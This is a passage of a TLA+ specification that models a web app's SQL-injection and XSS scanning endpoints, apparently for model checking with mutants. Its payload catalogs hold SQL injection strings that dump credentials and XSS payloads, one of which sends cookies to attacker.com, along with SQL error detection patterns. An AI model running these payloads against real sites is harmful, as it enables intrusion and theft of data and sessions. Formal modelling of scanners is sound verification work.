---- MODULE Spec2Model ----
(***************************************************************************)
(* Vulnerability-probing request pipeline of server/routes.ts:             *)
(*   POST /api/tools/sql-injection and POST /api/tools/xss-scan,           *)
(* together with the scan / activity-log store of server/storage.ts.       *)
(*                                                                         *)
(* JavaScript strings are modelled as sequences of tokens (a token is an   *)
(* indivisible piece of text), so that String.includes, String.replace,    *)
(* String.split and String.trim are computed and not assumed.  JavaScript  *)
(* null / undefined / "" (all falsy) are the empty sequence.               *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

null == << >>

----------------------------------------------------------------------------
(* String primitives *)

\* String.prototype.includes
Includes(text, pat) ==
    \E i \in 0..(Len(text) - Len(pat)) : SubSeq(text, i + 1, i + Len(pat)) = pat

\* index (1-based) of the first occurrence of token tok in s, 0 if none
IndexOfTok(s, tok) ==
    IF \E i \in 1..Len(s) : s[i] = tok
    THEN CHOOSE i \in 1..Len(s) : s[i] = tok /\ \A j \in 1..(i - 1) : s[j] # tok
    ELSE 0

\* String.prototype.replace(string, string): only the first occurrence
ReplaceFirst(s, tok, by) ==
    LET i == IndexOfTok(s, tok)
    IN  IF i = 0 THEN s ELSE SubSeq(s, 1, i - 1) \o by \o SubSeq(s, i + 1, Len(s))

\* String.prototype.split(sep) for a one-token separator
RECURSIVE Split(_, _)
Split(s, sep) ==
    LET i == IndexOfTok(s, sep)
    IN  IF i = 0 THEN << s >>
        ELSE << SubSeq(s, 1, i - 1) >> \o Split(SubSeq(s, i + 1, Len(s)), sep)

\* String.prototype.trim
RECURSIVE Trim(_)
Trim(s) ==
    IF s = << >> THEN s
    ELSE IF Head(s) = " " THEN Trim(Tail(s))
    ELSE IF s[Len(s)] = " " THEN Trim(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* Array.prototype.some / membership in a list
InList(list, x) == \E i \in 1..Len(list) : list[i] = x

\* insertion-ordered Set: add every element of list not yet present
RECURSIVE AddAll(_, _)
AddAll(set, list) ==
    IF list = << >> THEN set
    ELSE AddAll(IF InList(set, Head(list)) THEN set ELSE Append(set, Head(list)),
                Tail(list))

RECURSIVE Concat(_)
Concat(ss) == IF ss = << >> THEN << >> ELSE Head(ss) \o Concat(Tail(ss))

Range(s) == { s[i] : i \in 1..Len(s) }

----------------------------------------------------------------------------
(* Payload catalog *)

\* routes.ts 636-666: the record `payloads` of the SQL-injection handler
SqlPayloads ==
    [ basic |->
        << <<"' OR '1'='1">>,
           <<"1' OR '1'='1">>,
           <<"1 OR 1=1">>,
           <<"' --">>,
           <<"1' --">> >>,
      intermediate |->
        << <<"' OR '1'='1' --">>,
           <<"\" OR \"1\"=\"1\" --">>,
           <<"1' OR '1'='1' --">>,
           <<"' OR 1=1 --">>,
           <<"' OR 'x'='x">>,
           <<"' AND 1=0 UNION SELECT 1,2,3 --">>,
           <<"')) OR 1=1 --">> >>,
      advanced |->
        << <<"' OR '1'='1' --">>,
           <<"\" OR \"1\"=\"1\" --">>,
           <<"' OR 'x'='x' --">>,
           <<"')) OR 1=1 --">>,
           <<"' OR 1=1 LIMIT 1 --">>,
           <<"1' ORDER BY 1 --">>,
           <<"1' ORDER BY 10 --">>,
           <<"1' UNION SELECT null --">>,
           <<"1' UNION SELECT null,null --">>,
           <<"' AND 1=0 UNION SELECT 1,2,concat(username,':',password) FROM users --">>,
           <<"' AND 1=0 UNION SELECT 1,2,table_name FROM information_schema.tables --">> >> ]

\* mutant of defaultPayloads: the deep list lacks the <svg> payload of the normal list
defaultPayloads_DeepShort ==
    [ shallow |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">> >>,
      normal |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">>,
           <<"<svg onload='alert(\"", "XSS", "\")'>">>,
           <<"javascript:alert('", "XSS", "')">>,
           <<"<body onload='alert(\"", "XSS", "\")'>">>,
           <<"<div style='background-image:url(", "javascript:alert(\"", "XSS", "\")", ")'>">> >>,
      deep |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">>,
           <<"javascript:alert('", "XSS", "')">>,
           <<"<body onload='alert(\"", "XSS", "\")'>">>,
           <<"<div style='background-image:url(", "javascript:alert(\"", "XSS", "\")", ")'>">>,
           <<"<iframe src='", "javascript:alert(\"", "XSS", "\")", "'></iframe>">>,
           <<"<a href='", "javascript:alert(\"", "XSS", "\")", "'>Click me</a>">>,
           <<"<input type='text' value='\" onfocus=\"alert(\"", "XSS", "\")\" autofocus=\"'>">>,
           <<"'-prompt(1)-'">>,
           <<"1';a=prompt,a(1)//">>,
           <<"<img src=x onerror=prompt(document.domain)>">>,
           <<"<scr\\x69pt>alert(1)</scr\\x69pt>">>,
           <<"<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>">> >> ]

\* routes.ts 831-863
defaultPayloads ==
    [ shallow |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">> >>,
      normal |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">>,
           <<"<svg onload='alert(\"", "XSS", "\")'>">>,
           <<"javascript:alert('", "XSS", "')">>,
           <<"<body onload='alert(\"", "XSS", "\")'>">>,
           <<"<div style='background-image:url(", "javascript:alert(\"", "XSS", "\")", ")'>">> >>,
      deep |->
        << <<"<script>alert('", "XSS", "')</script>">>,
           <<"<img src='x' onerror='alert(\"", "XSS", "\")'>">>,
           <<"\">", "<script>alert('", "XSS", "')</script>">>,
           <<"<svg onload='alert(\"", "XSS", "\")'>">>,
           <<"javascript:alert('", "XSS", "')">>,
           <<"<body onload='alert(\"", "XSS", "\")'>">>,
           <<"<div style='background-image:url(", "javascript:alert(\"", "XSS", "\")", ")'>">>,
           <<"<iframe src='", "javascript:alert(\"", "XSS", "\")", "'></iframe>">>,
           <<"<a href='", "javascript:alert(\"", "XSS", "\")", "'>Click me</a>">>,
           <<"<input type='text' value='\" onfocus=\"alert(\"", "XSS", "\")\" autofocus=\"'>">>,
           <<"'-prompt(1)-'">>,
           <<"1';a=prompt,a(1)//">>,
           <<"<img src=x onerror=prompt(document.domain)>">>,
           <<"<scr\\x69pt>alert(1)</scr\\x69pt>">>,
           <<"<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>">> >> ]

----------------------------------------------------------------------------
(* URLs.  A submitted url string is [present, absolute, query]; the parsed *)
(* URL object is [query, hash], query a list of [key, value].              *)

\* new URL(url) throws a TypeError when url is not an absolute URL
UrlParses(url) == url.absolute

\* new URL(url)
NewURL(url) == [query |-> url.query, hash |-> null]

\* for (const [key] of parsedUrl.searchParams): the keys in order, repeats included
SearchParamKeys(u) == [i \in 1..Len(u.query) |-> u.query[i].key]

\* URLSearchParams.set(name, value): the first entry named name gets the value
\* and the other entries of that name are removed; appended when there is none
SearchParamsSet(u, name, value) ==
    LET q == u.query
        first == IF \E i \in 1..Len(q) : q[i].key = name
                 THEN CHOOSE i \in 1..Len(q) :
                        q[i].key = name /\ \A j \in 1..(i - 1) : q[j].key # name
                 ELSE 0
        Keep(e) == e.key # name
    IN  IF first = 0
        THEN [u EXCEPT !.query = Append(q, [key |-> name, value |-> value])]
        ELSE [u EXCEPT !.query =
                SelectSeq(SubSeq(q, 1, first - 1), Keep)
                \o << [key |-> name, value |-> value] >>
                \o SelectSeq(SubSeq(q, first + 1, Len(q)), Keep)]

\* URLSearchParams.get(name) of the first entry, null when absent
SearchParamsGet(u, name) ==
    IF \E i \in 1..Len(u.query) : u.query[i].key = name
    THEN u.query[CHOOSE i \in 1..Len(u.query) :
                   u.query[i].key = name /\ \A j \in 1..(i - 1) : u.query[j].key # name].value
    ELSE null

----------------------------------------------------------------------------
(* Target responses.  A page is a list of elements; response.data.toString() *)
(* is the concatenation of their text, JSDOM gives the script and form     *)
(* elements.                                                               *)

TextEl(t)        == [tag |-> "text",   content |-> t,    action |-> null, inputs |-> << >>]
ScriptEl(t)      == [tag |-> "script", content |-> t,    action |-> null, inputs |-> << >>]
FormEl(act, ins) == [tag |-> "form",   content |-> null, action |-> act,  inputs |-> ins]

\* response.data.toString()
ResponseText(page) == Concat([i \in 1..Len(page) |-> page[i].content])

IsScript(e) == e.tag = "script"
IsForm(e)   == e.tag = "form"
\* document.querySelectorAll('script') / ('form')
QueryScripts(page) == SelectSeq(page, IsScript)
QueryForms(page)   == SelectSeq(page, IsForm)

IsTextInput(t) == t \in {"text", "textarea"}
\* form.querySelectorAll('input[type="text"], textarea')
QueryTextInputs(form) == SelectSeq(form.inputs, IsTextInput)

\* the pages a target serves
PlainPage        == << TextEl(<<"Not Found">>) >>
SqlErrorPage     == << TextEl(<<"You have an error in your ", "SQL syntax", " near line 1">>) >>
WelcomePage      == << TextEl(<<"Welcome", " back, admin">>) >>
ErrorWelcomePage == << TextEl(<<"Dashboard", " - ", "ODBC Driver", " error: ", "ORA-", "00933">>) >>
BoilerplatePage  == << TextEl(<<"Try <code>", "<script>alert('", "XSS", "')</script>",
                                "</code> or <code>", "'-prompt(1)-'", "</code>">>) >>
SinkOnlyPage     == << ScriptEl(<<"el.", "innerHTML", " = data">>) >>
HashScriptPage   == << TextEl(<<"Docs">>),
                       ScriptEl(<<"el.", "innerHTML", " = ", "location", ".hash">>),
                       ScriptEl(<<"document", ".write(", "banner)">>) >>
TwoScriptPage    == << ScriptEl(<<"eval(", "document", ".URL", ")">>),
                       ScriptEl(<<"jQuery", "(sel).html(", "window.", "location", ".search", ")">>) >>
OneFormPage      == << FormEl(<<"/search">>, <<"text", "submit">>) >>
FormsPage        == << FormEl(<<"/comment">>, <<"text", "submit">>),
                       FormEl(<<"/comment">>, <<"textarea">>),
                       FormEl(null, <<"text">>),
                       FormEl(<<"/login">>, <<"password", "submit">>) >>
\* a page that reflects the query-string values of the request
EchoPage(u)      == << TextEl(<<"Results for ">>
                              \o Concat([i \in 1..Len(u.query) |-> u.query[i].value])) >>

\* every page a target may answer to a request for the URL u
Pages(u) ==
    {PlainPage, SqlErrorPage, WelcomePage, ErrorWelcomePage, BoilerplatePage, SinkOnlyPage,
     HashScriptPage, TwoScriptPage, OneFormPage, FormsPage, EchoPage(u)}

\* the pages that carry something the detector behind a kind of request looks for
SignalPages(kind, u) ==
    CASE kind \in {"test", "control"}    -> {SqlErrorPage, WelcomePage, ErrorWelcomePage}
      [] kind \in {"reflected", "token"} -> {EchoPage(u), BoilerplatePage}
      [] kind = "baseline"               -> {SinkOnlyPage, HashScriptPage, TwoScriptPage}
      [] kind = "fragment"               -> {HashScriptPage}
      [] kind = "stored"                 -> {OneFormPage, FormsPage}

----------------------------------------------------------------------------
(* Bounds *)

\* signal pages the targets serve to the primary probes of a run
MaxSignals == 2

\* the same, for a run of two concurrent scans
MaxConcSignals == 1

----------------------------------------------------------------------------
(* Request bodies *)

NoUrl    == [present |-> FALSE, absolute |-> FALSE, query |-> << >>]
BadUrl   == [present |-> TRUE,  absolute |-> FALSE, query |-> << >>]
PageUrl  == [present |-> TRUE,  absolute |-> TRUE,  query |-> << >>]
IdUrl    == [present |-> TRUE,  absolute |-> TRUE,
             query |-> << [key |-> <<"id">>, value |-> <<"1">>] >>]
IdQUrl   == [present |-> TRUE,  absolute |-> TRUE,
             query |-> << [key |-> <<"id">>, value |-> <<"1">>],
                          [key |-> <<"q">>,  value |-> <<"a">>] >>]
IdIdUrl  == [present |-> TRUE,  absolute |-> TRUE,
             query |-> << [key |-> <<"id">>, value |-> <<"1">>],
                          [key |-> <<"id">>, value |-> <<"2">>] >>]

SqlBody(user, url, names, level, inc, un, pw) ==
    [endpoint |-> "sql-injection", user |-> user, url |-> url, paramNames |-> names,
     testLevel |-> level, includeAuth |-> inc, authUsername |-> un, authPassword |-> pw]

\* bodies posted to /api/tools/sql-injection; user 0 is an unauthenticated caller
SqlRequests ==
    { SqlBody(1, u, null, "basic", FALSE, null, null) :
        u \in {NoUrl, BadUrl, PageUrl, IdUrl, IdQUrl, IdIdUrl} }
    \cup { SqlBody(0, u, null, "basic", FALSE, null, null) : u \in {NoUrl, IdUrl} }
    \cup { SqlBody(1, IdUrl, null, l, FALSE, null, null) :
             l \in {"basic", "intermediate", "advanced", "extreme", ""} }
    \cup { SqlBody(1, u, n, "basic", FALSE, null, null) :
             u \in {PageUrl, IdUrl},
             n \in { <<"q">>, <<" ", "id", " ", ",", ",", " ", ",", "q", ",", "id">>,
                     <<" ", ",", " ">> } }
    \cup { SqlBody(2, IdUrl, null, "basic", inc, un, pw) :
             inc \in BOOLEAN, un \in {null, <<"admin">>}, pw \in {null, <<"secret">>} }

XssBody(user, url, custom, type, depth) ==
    [endpoint |-> "xss-scan", user |-> user, url |-> url, customPayloads |-> custom,
     scanType |-> type, scanDepth |-> depth]

\* customPayloads strings: blank lines only; two payloads around a blank line
BlankLines == <<"\n", " ", "\n">>
TwoLines   == <<"<b>", "XSS", "</b>", "\n", " ", "\n", "'-prompt(1)-'", "\n">>

\* bodies posted to /api/tools/xss-scan; user 0 is an unauthenticated caller
XssRequests ==
    { XssBody(1, u, null, "comprehensive", "shallow") :
        u \in {NoUrl, BadUrl, PageUrl, IdUrl, IdQUrl, IdIdUrl} }
    \cup { XssBody(0, u, null, "comprehensive", "shallow") : u \in {NoUrl, IdUrl} }
    \cup { XssBody(1, IdUrl, null, t, d) :
             t \in {"reflected", "dom", "stored", "comprehensive", "full"},
             d \in {"", "shallow", "normal", "deep", "extreme"} }
    \cup { XssBody(2, u, c, t, d) :
             u \in {PageUrl, IdUrl, IdQUrl}, c \in {BlankLines, TwoLines},
             t \in {"reflected", "comprehensive"}, d \in {"", "extreme"} }
    \cup { XssBody(1, PageUrl, null, t, d) :
             t \in {"reflected", "comprehensive"}, d \in {"normal", "extreme"} }

\* the bodies of the requests that are served concurrently
ConcSqlRequests == { SqlBody(1, IdUrl, null, "basic", FALSE, null, null) }

ConcSqlRequests2 == { SqlBody(2, IdUrl, null, "basic", FALSE, null, null) }

OneLine == <<"<b>", "XSS", "</b>">>

ConcXssRequests == { XssBody(2, IdUrl, OneLine, "comprehensive", "") }

ConcXssRequests2 == { XssBody(1, IdQUrl, OneLine, "comprehensive", "") }

\* values of crypto.randomBytes(8).toString('hex')
Tokens == { <<"9f86d081884c7d65">>, <<"0a1b2c3d4e5f6071">> }

\* the handler invocations of a run; the event loop interleaves them at their awaits
Handlers == {1, 2}

----------------------------------------------------------------------------
VARIABLES
    pc,            \* where each handler is
    req,           \* req.body and req.user of the request it serves
    results,       \* the handler's results object
    targetParams,  \* sql-injection: Set of parameter names, in insertion order
    payloads,      \* xss-scan: the payload list of the scan
    injectionPoints, \* xss-scan: Map of query keys to values, in insertion order
    pi, yi,        \* position of the parameter and payload loops
    inflight,      \* the outbound request the handler awaits
    response,      \* what the handler sent to its caller
    scanId,        \* id of the scan record createScan returned
    scans, currentScanId,                \* storage: scan records
    activityLogs, currentActivityLogId,  \* storage: activity log
    signals,       \* signal pages served to the handler so far
    sent,          \* outbound requests issued, per kind
    seen,          \* what the responses to the handler's probes contained
    storageFailed, \* a storage call of the handler was rejected
    answered       \* the answers to the handler's outbound requests so far

vars == << pc, req, results, targetParams, payloads, injectionPoints, pi, yi,
           inflight, response, scanId, scans, currentScanId, activityLogs,
           currentActivityLogId, signals, sent, seen, storageFailed, answered >>

\* the value of a lookup that finds nothing, as opposed to an empty list
undefined  == [defined |-> FALSE, items |-> << >>]
NoRequest  == [kind |-> "none", url |-> [query |-> << >>, hash |-> null], auth |-> FALSE]
NoResults  == [vulnerabilities |-> << >>, error |-> null]
NoResponse == [status |-> 0, results |-> NoResults, scanId |-> 0]
NoBody     == [endpoint |-> "none", user |-> 0, url |-> NoUrl]
\* failed: the answer the handler has just handled was a failure; static: every
\* request so far was answered, and with the one page BoilerplatePage; settled:
\* the outbound requests whose promise has settled and resumed the handler
NoAnswer   == [failed |-> FALSE, static |-> TRUE, settled |-> 0]
NoneSent   == [test |-> 0, control |-> 0, reflected |-> 0, token |-> 0,
               baseline |-> 0, fragment |-> 0, stored |-> 0]

Init ==
    /\ pc = [h \in Handlers |-> "idle"]
    /\ req = [h \in Handlers |-> NoBody]
    /\ results = [h \in Handlers |-> NoResults]
    /\ targetParams = [h \in Handlers |-> << >>]
    /\ payloads = [h \in Handlers |-> undefined]
    /\ injectionPoints = [h \in Handlers |-> << >>]
    /\ pi = [h \in Handlers |-> 0]
    /\ yi = [h \in Handlers |-> 0]
    /\ inflight = [h \in Handlers |-> NoRequest]
    /\ response = [h \in Handlers |-> NoResponse]
    /\ scanId = [h \in Handlers |-> 0]
    /\ scans = << >>
    /\ currentScanId = 1
    /\ activityLogs = << >>
    /\ currentActivityLogId = 1
    /\ signals = [h \in Handlers |-> 0]
    /\ sent = [h \in Handlers |-> NoneSent]
    /\ seen = [h \in Handlers |-> {}]
    /\ storageFailed = [h \in Handlers |-> FALSE]
    /\ answered = [h \in Handlers |-> NoAnswer]

----------------------------------------------------------------------------
(* The target *)

Primary(kind) == kind \in {"test", "reflected", "baseline", "fragment", "stored"}

\* the bodies of the error responses with which axios.get rejects; the code
\* does not look at them
FailurePages(kind, u) == {PlainPage} \cup SignalPages(kind, u)

\* mutant of Resolved: an error response is read like any response
Resolved_Always(a) == TRUE

\* await axios.get(...) returns the response; a rejection throws to the nearest catch
Resolved(a) == a.ok

\* signal pages served so far to the handlers of the set H
RECURSIVE SignalsServed(_)
SignalsServed(H) ==
    IF H = {} THEN 0
    ELSE LET h == CHOOSE x \in H : TRUE
         IN  signals[h] + SignalsServed(H \ {h})

\* outcomes of the request handler h awaits: the request fails, or some page
\* comes back; the primary probes of a run get at most budget signal pages
Answers(h, budget) ==
    LET kind == inflight[h].kind
        u == inflight[h].url
    IN  { [ok |-> FALSE, page |-> p] : p \in FailurePages(kind, u) }
        \cup { [ok |-> TRUE, page |-> p] :
                 p \in IF Primary(kind) /\ SignalsServed(Handlers) >= budget
                       THEN Pages(u) \ SignalPages(kind, u)
                       ELSE Pages(u) }

\* the ghost record of the answers after the answer a
Answered(h, a) ==
    [failed |-> ~a.ok,
     static |-> answered[h].static /\ a.ok /\ a.page = BoilerplatePage,
     settled |-> answered[h].settled + 1]

Served(h, a) ==
    IF /\ a.ok
       /\ Primary(inflight[h].kind)
       /\ a.page \in SignalPages(inflight[h].kind, inflight[h].url)
    THEN signals[h] + 1 ELSE signals[h]

----------------------------------------------------------------------------
(* Storage *)

\* Map.set: the entry of the key is added or replaced; the keys of the storage
\* maps are the ids 1, 2, ... so a map is the sequence of its records
MapPut(map, key, value) ==
    [k \in DOMAIN map \cup {key} |-> IF k = key THEN value ELSE map[k]]

\* mutant of NextId: the counter is not advanced
NextId_Stuck(id) == id

\* storage.ts 103 and 144: id = this.currentXId++ (the serial column of the database)
NextId(id) == id + 1

\* storage.ts 102-116 MemStorage.createScan (243-253 DatabaseStorage.createScan)
createScan(insertScan) ==
    LET id == currentScanId
    IN  /\ currentScanId' = NextId(currentScanId)
        /\ scans' = MapPut(scans, id, [id |-> id,
                                       userId |-> insertScan.userId,
                                       target |-> insertScan.target,
                                       scanType |-> insertScan.scanType,
                                       status |-> insertScan.status,
                                       findings |-> insertScan.findings])

\* storage.ts 143-157 MemStorage.createActivityLog (282-289 DatabaseStorage)
createActivityLog(insertLog) ==
    LET id == currentActivityLogId
    IN  /\ currentActivityLogId' = NextId(currentActivityLogId)
        /\ activityLogs' = MapPut(activityLogs, id, [id |-> id,
                                                     userId |-> insertLog.userId,
                                                     action |-> insertLog.action,
                                                     details |-> insertLog.details])

----------------------------------------------------------------------------
(* POST /api/tools/sql-injection *)

\* routes.ts 714-726
errorPatterns ==
    << <<"SQL syntax">>,
       <<"mysql_fetch">>,
       <<"You have an error in your ", "SQL syntax">>,
       <<"ORA-">>,
       <<"Oracle Error">>,
       <<"Microsoft OLE DB Provider for SQL Server">>,
       <<"ODBC Driver">>,
       <<"Unclosed quotation mark after the character string">>,
       <<"PostgreSQL">>,
       <<"supplied argument is not a valid ", "PostgreSQL", " result">>,
       <<"pg_query() [function.pg-query]">> >>

\* mutant of HasSuccessMarker: only the first marker is looked for
HasSuccessMarker_WelcomeOnly(text) == Includes(text, <<"Welcome">>)

\* routes.ts 754-756 and 767-769
HasSuccessMarker(text) ==
    \/ Includes(text, <<"Welcome">>)
    \/ Includes(text, <<"Dashboard">>)
    \/ Includes(text, <<"Logged in">>)

IsNonEmpty(name) == name # << >>

\* mutant of SplitParamNames: the empty names are not dropped
SplitParamNames_KeepEmpty(paramNames) ==
    IF paramNames = null THEN << >>
    ELSE LET parts == Split(paramNames, ",")
         IN  [i \in 1..Len(parts) |-> Trim(parts[i])]

\* routes.ts 626-633: paramNames.split(',') , trim, keep the non-empty names
SplitParamNames(paramNames) ==
    IF paramNames = null THEN << >>
    ELSE LET parts == Split(paramNames, ",")
         IN  SelectSeq([i \in 1..Len(parts) |-> Trim(parts[i])], IsNonEmpty)

\* mutant of TargetParams: the names are collected in a list, not in a Set
TargetParams_List(url, paramNames) ==
    SearchParamKeys(NewURL(url)) \o SplitParamNames(paramNames)

\* routes.ts 617-633: the Set targetParams
TargetParams(url, paramNames) ==
    AddAll(AddAll(<< >>, SearchParamKeys(NewURL(url))), SplitParamNames(paramNames))

\* mutant of UseAuth: the password is not required
UseAuth_NoPassword(body) ==
    body.includeAuth /\ body.authUsername # null

\* routes.ts 703: includeAuth && authUsername && authPassword
UseAuth(body) ==
    body.includeAuth /\ body.authUsername # null /\ body.authPassword # null

\* mutant of PushUnlessExists: the finding is pushed without the lookup
PushUnlessExists_Always(list, vuln) == Append(list, vuln)

\* routes.ts 740-746 and 779-785: push unless (parameter, payload) is present
PushUnlessExists(list, vuln) ==
    IF \E i \in 1..Len(list) :
         list[i].parameter = vuln.parameter /\ list[i].payload = vuln.payload
    THEN list
    ELSE Append(list, vuln)

\* routes.ts 728-750: the first pattern of errorPatterns the text includes, 0 if none
FirstErrorPattern(text) ==
    IF \E i \in 1..Len(errorPatterns) : Includes(text, errorPatterns[i])
    THEN CHOOSE i \in 1..Len(errorPatterns) :
           /\ Includes(text, errorPatterns[i])
           /\ \A j \in 1..(i - 1) : ~Includes(text, errorPatterns[j])
    ELSE 0

\* mutant of ensureAuthenticated: next() is called for every request
ensureAuthenticated_Open(body) == TRUE

\* routes.ts 24-29: req.isAuthenticated()
ensureAuthenticated(body) == body.user # 0

\* routes.ts 612 and 826: !url
UrlMissing(body) == ~body.url.present

Reply(h, status, res, id) ==
    /\ response' = [response EXCEPT ![h] = [status |-> status, results |-> res, scanId |-> id]]
    /\ pc' = [pc EXCEPT ![h] = "done"]

\* routes.ts 609-677: ensureAuthenticated and the handler up to the probe loop
SqlInjection(h, bodies) ==
    /\ pc[h] = "idle"
    /\ \E body \in bodies :
         /\ req' = [req EXCEPT ![h] = body]
         /\ IF ~ensureAuthenticated(body)
            THEN /\ Reply(h, 401, NoResults, 0)
                 /\ UNCHANGED << results, targetParams, pi, yi >>
            ELSE IF UrlMissing(body)
            THEN /\ Reply(h, 400, NoResults, 0)
                 /\ UNCHANGED << results, targetParams, pi, yi >>
            ELSE IF ~UrlParses(body.url)
            THEN /\ Reply(h, 500, NoResults, 0)       \* next(error)
                 /\ UNCHANGED << results, targetParams, pi, yi >>
            ELSE LET tp == TargetParams(body.url, body.paramNames)
                     res == [vulnerabilities |-> << >>, testedUrls |-> << >>,
                             testedParams |-> tp, error |-> null]
                 IN  /\ targetParams' = [targetParams EXCEPT ![h] = tp]
                     /\ UNCHANGED response
                     /\ IF Len(tp) = 0
                        THEN /\ results' = [results EXCEPT ![h] =
                                  [res EXCEPT !.error =
                                     <<"No parameters found to test for SQL injection">>]]
                             /\ pc' = [pc EXCEPT ![h] = "createScan"]
                             /\ UNCHANGED << pi, yi >>
                        ELSE /\ results' = [results EXCEPT ![h] = res]
                             /\ pc' = [pc EXCEPT ![h] = "sql_probe"]
                             /\ pi' = [pi EXCEPT ![h] = 1]
                             /\ yi' = [yi EXCEPT ![h] = 1]
    /\ UNCHANGED << storageFailed, answered >>
    /\ UNCHANGED << payloads, injectionPoints, inflight, scanId, scans, currentScanId,
                    activityLogs, currentActivityLogId, signals, sent, seen >>

\* routes.ts 679-710: one turn of the loops, up to the await of the test request
SqlProbe(h) ==
    /\ pc[h] = "sql_probe"
    /\ IF req[h].testLevel \notin DOMAIN SqlPayloads
       THEN \* for (... of undefined) throws inside the try of line 678
            /\ results' = [results EXCEPT ![h].error = <<"payloads[testLevel] is not iterable">>]
            /\ pc' = [pc EXCEPT ![h] = "createScan"]
            /\ UNCHANGED << inflight, sent >>
       ELSE LET param == targetParams[h][pi[h]]
                payload == SqlPayloads[req[h].testLevel][yi[h]]
                testUrl == SearchParamsSet(NewURL(req[h].url), param, payload)
            IN  /\ results' = [results EXCEPT ![h].testedUrls = Append(@, testUrl)]
                /\ inflight' = [inflight EXCEPT ![h] =
                                  [kind |-> "test", url |-> testUrl, auth |-> UseAuth(req[h])]]
                /\ sent' = [sent EXCEPT ![h].test = @ + 1]
                /\ pc' = [pc EXCEPT ![h] = "sql_test"]
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, pi, yi, response, scanId, scans, currentScanId,
                    activityLogs, currentActivityLogId, signals, seen >>

\* mutant of SqlAdvance: the payload loop is left after every probe
SqlAdvance_NextParam(h) ==
    IF pi[h] < Len(targetParams[h])
    THEN /\ pi' = [pi EXCEPT ![h] = @ + 1]
         /\ yi' = [yi EXCEPT ![h] = 1]
         /\ pc' = [pc EXCEPT ![h] = "sql_probe"]
    ELSE /\ pc' = [pc EXCEPT ![h] = "createScan"]
         /\ UNCHANGED << pi, yi >>

\* mutant of SqlAdvance: after the last parameter the loops start again
SqlAdvance_Restart(h) ==
    IF yi[h] < Len(SqlPayloads[req[h].testLevel])
    THEN /\ yi' = [yi EXCEPT ![h] = @ + 1]
         /\ pc' = [pc EXCEPT ![h] = "sql_probe"]
         /\ UNCHANGED pi
    ELSE /\ pi' = [pi EXCEPT ![h] = IF @ < Len(targetParams[h]) THEN @ + 1 ELSE 1]
         /\ yi' = [yi EXCEPT ![h] = 1]
         /\ pc' = [pc EXCEPT ![h] = "sql_probe"]

\* routes.ts 679-681, 794-795: the next (parameter, payload), or the end of the loops
SqlAdvance(h) ==
    IF yi[h] < Len(SqlPayloads[req[h].testLevel])
    THEN /\ yi' = [yi EXCEPT ![h] = @ + 1]
         /\ pc' = [pc EXCEPT ![h] = "sql_probe"]
         /\ UNCHANGED pi
    ELSE IF pi[h] < Len(targetParams[h])
    THEN /\ pi' = [pi EXCEPT ![h] = @ + 1]
         /\ yi' = [yi EXCEPT ![h] = 1]
         /\ pc' = [pc EXCEPT ![h] = "sql_probe"]
    ELSE /\ pc' = [pc EXCEPT ![h] = "createScan"]
         /\ UNCHANGED << pi, yi >>

\* routes.ts 710-763, 791-793: the test response, up to the await of the control request
SqlTestDone(h, budget) ==
    /\ pc[h] = "sql_test"
    /\ \E a \in Answers(h, budget) :
         LET param == targetParams[h][pi[h]]
             payload == SqlPayloads[req[h].testLevel][yi[h]]
             responseText == ResponseText(a.page)
             k == FirstErrorPattern(responseText)
             vuln == [parameter |-> param, severity |-> "high",
                      details |-> <<"SQL error detected in response after injecting payload into parameter '">>
                                  \o param \o <<"'">>,
                      url |-> inflight[h].url, payload |-> payload,
                      pattern |-> errorPatterns[k]]
         IN  /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
             /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
             /\ IF ~Resolved(a)
                THEN /\ SqlAdvance(h)
                     /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
                     /\ UNCHANGED << results, sent, seen >>
                ELSE /\ results' = [results EXCEPT ![h].vulnerabilities =
                                      IF k = 0 THEN @ ELSE PushUnlessExists(@, vuln)]
                     /\ seen' = [seen EXCEPT ![h] =
                                   @ \cup (IF \E i \in 1..Len(errorPatterns) :
                                                Includes(responseText, errorPatterns[i])
                                           THEN {[what |-> "sqlerror", param |-> param, payload |-> payload]}
                                           ELSE {})
                                     \cup (IF \/ Includes(responseText, <<"Welcome">>)
                                              \/ Includes(responseText, <<"Dashboard">>)
                                              \/ Includes(responseText, <<"Logged in">>)
                                           THEN {[what |-> "marker", param |-> param, payload |-> payload]}
                                           ELSE {})]
                     /\ IF HasSuccessMarker(responseText)
                        THEN /\ inflight' = [inflight EXCEPT ![h] =
                                  [kind |-> "control",
                                   url |-> SearchParamsSet(NewURL(req[h].url), param,
                                                           <<"invalid_value_that_should_fail">>),
                                   auth |-> inflight[h].auth]]
                             /\ sent' = [sent EXCEPT ![h].control = @ + 1]
                             /\ pc' = [pc EXCEPT ![h] = "sql_control"]
                             /\ UNCHANGED << pi, yi >>
                        ELSE /\ SqlAdvance(h)
                             /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
                             /\ UNCHANGED sent
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, response, scanId, scans, currentScanId,
                    activityLogs, currentActivityLogId >>

\* routes.ts 763-790: the control response
SqlControlDone(h, budget) ==
    /\ pc[h] = "sql_control"
    /\ \E a \in Answers(h, budget) :
         LET param == targetParams[h][pi[h]]
             payload == SqlPayloads[req[h].testLevel][yi[h]]
